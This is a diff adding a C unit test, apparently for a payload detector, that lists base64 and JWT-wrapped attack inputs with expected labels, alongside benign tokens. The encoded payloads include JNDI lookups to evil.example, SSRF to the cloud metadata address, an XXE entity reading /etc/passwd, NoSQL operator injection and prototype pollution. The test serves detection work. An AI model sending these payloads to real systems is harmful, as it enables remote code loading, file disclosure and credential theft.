@@ -201,12 +201,65 @@ static void test_ssrf_prose(void **st)
 	run_vtable("ssrf-prose", t, sizeof(t) / sizeof(t[0]));
 }
 
+#define X PAYLOAD_XXE
+#define O PAYLOAD_NOSQLI
+#define P PAYLOAD_PROTO_POLLUTION
+
+/* A value that is base64 text or a JWT carries what the application
+ * decodes: a claim it logs, a header URL it fetches (jku), XML it parses,
+ * JSON it queries with. Tokens of development issuers, beacons holding
+ * "$os"-style keys and plain SAML stay benign. */
+static void test_wrapped(void **st)
+{
+	(void)st;
+	static const struct qcase t[] = {
+		/* base64 of ${jndi:ldap://evil.example/a} */
+		{"JHtqbmRpOmxkYXA6Ly9ldmlsLmV4YW1wbGUvYX0=", J},
+		/* JWT: "kid" a jndi lookup */
+		{"eyJhbGciOiAiSFMyNTYiLCAidHlwIjogIkpXVCIsICJraWQiOiAiJHtqbmRpOmxkYXA6Ly9ldmlsLmV4YW1wbGUvYX0ifQ."
+		 "eyJzdWIiOiAiMSJ9.c2lnbmF0dXJlX2J5dGVzX2hlcmVfMDEyMzQ1Njc4OQ", J},
+		/* JWT: "jku" the metadata address */
+		{"eyJhbGciOiAiUlMyNTYiLCAiamt1IjogImh0dHA6Ly8xNjkuMjU0LjE2OS4yNTQva2V5cy5qc29uIn0."
+		 "eyJzdWIiOiAiMSJ9.c2lnbmF0dXJlX2J5dGVzX2hlcmVfMDEyMzQ1Njc4OQ", S},
+		/* JWT: "sub" a nested lookup, "name" not ASCII ("Se\u00e1n") */
+		{"Bearer eyJhbGciOiAiSFMyNTYifQ.eyJzdWIiOiAiJHske2xvd2VyOmp9bmRpOnJtaTovL2V2aWwuZXhhbXBsZS94fSIsICJuYW1lIjogIlNlw6FuIn0."
+		 "c2lnbmF0dXJlX2J5dGVzX2hlcmVfMDEyMzQ1Njc4OQ", J},
+		/* base64 of a DOCTYPE with a SYSTEM entity */
+		{"PCFET0NUWVBFIHggWzwhRU5USVRZIHh4ZSBTWVNURU0gImZpbGU6Ly8vZXRjL3Bhc3N3ZCI+XT48eD4meHhlOzwveD4=", X},
+		/* {"$ne":null}, {"username": {"$gt": ""}} */
+		{"eyIkbmUiOm51bGx9", O},
+		{"eyJ1c2VybmFtZSI6IHsiJGd0IjogIiJ9fQ", O},
+		/* JWT claims with "__proto__": {"isAdmin": true} */
+		{"eyJhbGciOiAiSFMyNTYifQ.eyJzdWIiOiAiMSIsICJfX3Byb3RvX18iOiB7ImlzQWRtaW4iOiB0cnVlfX0."
+		 "c2lnbmF0dXJlX2J5dGVzX2hlcmVfMDEyMzQ1Njc4OQ", P},
+		/* base64 of http://169.254.169.254/latest/meta-data/ */
+		{"aHR0cDovLzE2OS4yNTQuMTY5LjI1NC9sYXRlc3QvbWV0YS1kYXRhLw==", S},
+		/* benign: issuers on loopback and private hosts */
+		{"eyJhbGciOiAiUlMyNTYiLCAidHlwIjogIkpXVCIsICJraWQiOiAiazEifQ.eyJzdWIiOiAiNDIiLCAiaXNzIjogImh0dHBzOi8vMTI3LjAuMC4xOjgwODAvIiwg"
+		 "ImF1ZCI6ICJhcGkiLCAibmFtZSI6ICJTZcOhbiBPJ0JyaWVuIiwgImVtYWlsIjogImFAZXhhbXBsZS5jb20ifQ."
+		 "c2lnbmF0dXJlX2J5dGVzX2hlcmVfMDEyMzQ1Njc4OQ", N},
+		{"eyJhbGciOiAiRVMyNTYiLCAidHlwIjogIkpXVCJ9.eyJzdWIiOiAiNDIiLCAiaXNzIjogImh0dHBzOi8vMTAuMC4wLjE1Ojg0NDMvIiwgInNjb3BlIjogIm9wZW5pZCBwcm9maWxlIn0."
+		 "c2lnbmF0dXJlX2J5dGVzX2hlcmVfMDEyMzQ1Njc4OQ", N},
+		/* an analytics beacon's properties, a state holding a dev URL */
+		{"eyJldmVudCI6ICJTaWduZWQgVXAiLCAicHJvcGVydGllcyI6IHsiJG9zIjogIk1hYyBPUyBYIiwgIiRicm93c2VyIjogIkNocm9tZSIsICJkaXN0aW5jdF9p"
+		 "ZCI6ICJhYmMiLCAidG9rZW4iOiAidDBrIn19", N},
+		{"eyJyZXR1cm5UbyI6ICJodHRwOi8vbG9jYWxob3N0OjMwMDAvY2FsbGJhY2siLCAibm9uY2UiOiAibjEifQ==", N},
+		{"aHR0cDovL2xvY2FsaG9zdDozMDAwL2NhbGxiYWNr", N},
+		/* a SAML AuthnRequest, base64 as the POST binding sends it */
+		{"PHNhbWxwOkF1dGhuUmVxdWVzdCB4bWxuczpzYW1scD0idXJuOm9hc2lzOm5hbWVzOnRjOlNBTUw6Mi4wOnByb3RvY29sIiBJRD0iXzEiIFZlcnNpb249IjIu"
+		 "MCI+PHNhbWw6SXNzdWVyIHhtbG5zOnNhbWw9InVybjpvYXNpczpuYW1lczp0YzpTQU1MOjIuMDphc3NlcnRpb24iPmh0dHBzOi8vc3AuZXhhbXBsZS5vcmcv"
+		 "bWV0YWRhdGE8L3NhbWw6SXNzdWVyPjwvc2FtbHA6QXV0aG5SZXF1ZXN0Pg==", N},
+	};
+	run_vtable("wrapped", t, sizeof(t) / sizeof(t[0]));
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
 		cmocka_unit_test(test_ssrf_redirect_uri),
 		cmocka_unit_test(test_jndi_grammar),
 		cmocka_unit_test(test_ssrf_prose),
+		cmocka_unit_test(test_wrapped),
 	};
 	payload_cache_enable(0);
 	return cmocka_run_group_tests(tests, NULL, NULL);
